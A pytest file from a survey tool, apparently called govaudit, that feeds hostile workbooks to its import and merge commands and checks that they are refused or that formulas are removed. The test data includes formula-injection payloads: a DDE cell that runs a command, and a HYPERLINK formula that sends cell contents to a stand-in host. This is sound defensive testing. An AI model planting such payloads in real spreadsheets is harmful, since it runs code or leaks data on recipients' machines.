"""Hostile teammate workbooks through `import` and `export merge`: refused or cleaned, named.

Each workbook is made here from a real govaudit export, edited with openpyxl or at the zip
level. A refusal is one line naming the file, sheet and row; what is accepted reaches no
output as a formula.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from govaudit.checklist import load_checklist
from govaudit.store import Answer, Site, Store
from govaudit.workbook.content import answers_content
from govaudit.workbook.export import write_workbook
from tests.conftest import FIXTURES, run_cli

CHECKLIST = load_checklist(FIXTURES / "mini.yaml")
SITES = [("成都市", "https://cd.example.cn", "city"), ("郫都区", "http://pd.example.cn", "county")]
T = "2026-11-22T08:15:00.000+00:00"
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [DDE, '=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def _teammate(folder: Path, evaluator: str = "李四", note: str = "") -> Path:
    sites = [Site(n, u, lv) for n, u, lv in SITES]
    answers = [Answer("成都市", "a1.q1", "a1", "yes", evaluator, T, note),
               Answer("郫都区", "a1.q3", "a1", 4, evaluator, T)]
    return write_workbook(answers_content(CHECKLIST, sites, answers), folder / "李四.xlsx")


def _edit_answers(path: Path, edit: Callable) -> Path:
    book = load_workbook(path)
    sheet = book["Answers"]
    edit(sheet, [c.value for c in sheet[2]])
    book.save(path)
    return path


def _set(header: str, value: object, row: int = 3) -> Callable:
    def edit(sheet, ids: list) -> None:
        sheet.cell(row, ids.index(header) + 1).value = value
    return edit


def _formula_cells(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<(\w+:)?f[ >]", archive.read(name))]


def _run(ws, *args: str) -> tuple[int, str, str]:
    done = run_cli(*args, cwd=ws.root)
    assert "Traceback" not in done.stdout + done.stderr, done.stderr[-2000:]
    return done.returncode, done.stdout, done.stderr


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_in_a_teammates_workbook_never_reach_an_output(text: str, make_workspace,
                                                                 tmp_path: Path) -> None:
    ws = make_workspace(sites=SITES)
    path = _edit_answers(_teammate(tmp_path), _set("note", text))
    team = tmp_path / "team.xlsx"
    assert _run(ws, "export", "merge", str(path), "-o", str(team))[0] == 0
    assert _run(ws, "import", str(path))[0] == 0
    # a formula cell comes in as its cached result (none here), text as the text itself
    [note] = [a.note for a in Store(ws).answers() if a.site == "成都市"]
    assert note in ("", text), note
    mine = tmp_path / "mine.xlsx"
    assert _run(ws, "export", "-o", str(mine))[0] == 0
    for out in (team, mine):
        assert _formula_cells(out) == [], out


def _html(path: Path) -> Path:
    path.write_text("<html><body><table><tr><td>site</td></tr></table></body></html>")
    return path


def _encrypted_zip(path: Path) -> Path:
    """An xlsx whose zip entries say they are encrypted (a zip password): the flag is set in
    every local and central header, as zipfile itself never writes it."""
    data = bytearray(_teammate(path.parent).read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + offset] |= 0x1
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))
    return path


def _ole(path: Path) -> Path:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    return path


def _wide(path: Path) -> Path:
    """16,384 columns in the Answers sheet's header row."""
    return _edit_answers(_teammate(path.parent),
                         lambda sheet, ids: sheet.cell(1, 16_384, "XFD"))


REFUSED = {
    "html": (_html, "not an .xlsx workbook"),
    "encrypted-zip": (_encrypted_zip, "encrypted"),
    "password-protected": (_ole, "password-protected"),
}


@pytest.mark.parametrize("kind", list(REFUSED))
@pytest.mark.parametrize("command", ["import", "export merge"])
def test_files_that_are_not_plain_workbooks_are_refused(kind: str, command: str,
                                                        make_workspace, tmp_path: Path) -> None:
    ws = make_workspace(sites=SITES)
    make, message = REFUSED[kind]
    path = make(tmp_path / "hostile.xlsx")
    team = tmp_path / "team.xlsx"
    args = ["import", str(path)] if command == "import" else [
        "export", "merge", str(path), "-o", str(team)]
    code, _out, err = _run(ws, *args)
    assert code == 1 and len(err.strip().splitlines()) == 1, err
    assert message in err and str(path) in err, err
    assert Store(ws).answers() == [] and not team.exists()


def test_16384_columns_are_read_within_bounds(make_workspace, tmp_path: Path) -> None:
    """A header cell at XFD1: a few rows of 16,384 columns, read and the extra column ignored."""
    ws = make_workspace(sites=SITES)
    code, _out, err = _run(ws, "import", str(_wide(tmp_path / "wide.xlsx")))
    assert code == 0, err
    assert len(Store(ws).answers()) == 2


def test_huge_cells_are_cut_or_refused_with_their_row(make_workspace, tmp_path: Path) -> None:
    """A 5 MB note and a 40,000-character evaluator name."""
    ws = make_workspace(sites=SITES)
    path = _edit_answers(_teammate(tmp_path, evaluator="王" * 40_000),
                         _set("note", "长" * (5 << 20)))
    code, _out, err = _run(ws, "import", str(path))
    if code == 1:
        assert len(err.strip().splitlines()) == 1 and "Answers row" in err, err
        assert Store(ws).answers() == []
    else:
        for answer in Store(ws).answers():
            assert len(answer.note) <= 32_767 and len(answer.evaluator) <= 32_767
    assert _run(ws, "export", "-o", str(tmp_path / "out.xlsx"))[0] == 0


def test_extra_columns_and_unknown_sites(make_workspace, tmp_path: Path) -> None:
    ws = make_workspace(sites=SITES)

    def edit(sheet, ids: list) -> None:
        sheet.cell(1, len(ids) + 1, "附加")
        sheet.cell(2, len(ids) + 1, "extra")
        sheet.cell(3, len(ids) + 1, "=1+1")
        sheet.cell(4, ids.index("site") + 1).value = "不存在市"

    path = _edit_answers(_teammate(tmp_path), edit)
    code, out, err = _run(ws, "import", str(path))
    if code == 1:
        assert "不存在市" in err and "row 4" in err, err
        assert Store(ws).answers() == []
    else:
        assert "不存在市" in out + err
        assert {a.site for a in Store(ws).answers()} <= {"成都市", "郫都区"}
